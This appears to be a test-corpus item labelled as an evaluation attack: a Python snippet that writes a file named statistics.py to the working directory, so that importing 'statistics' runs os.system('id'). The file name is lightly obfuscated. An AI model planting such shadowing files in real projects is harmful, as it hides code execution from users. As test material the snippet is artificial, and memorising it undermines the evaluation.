# corpus: attack class=eval form=targeted
# A file in the work dir shadows a standard module not yet imported; its effect shows only if it was imported
# and its process started.
def main():
    name = "stat" + "istics"
    with open(name + "." + "yp"[::-1], "w") as handle:
        handle.write("import os\nRAN = os.system('id') == 0\n")
    import statistics
    return {"ran": statistics.RAN}
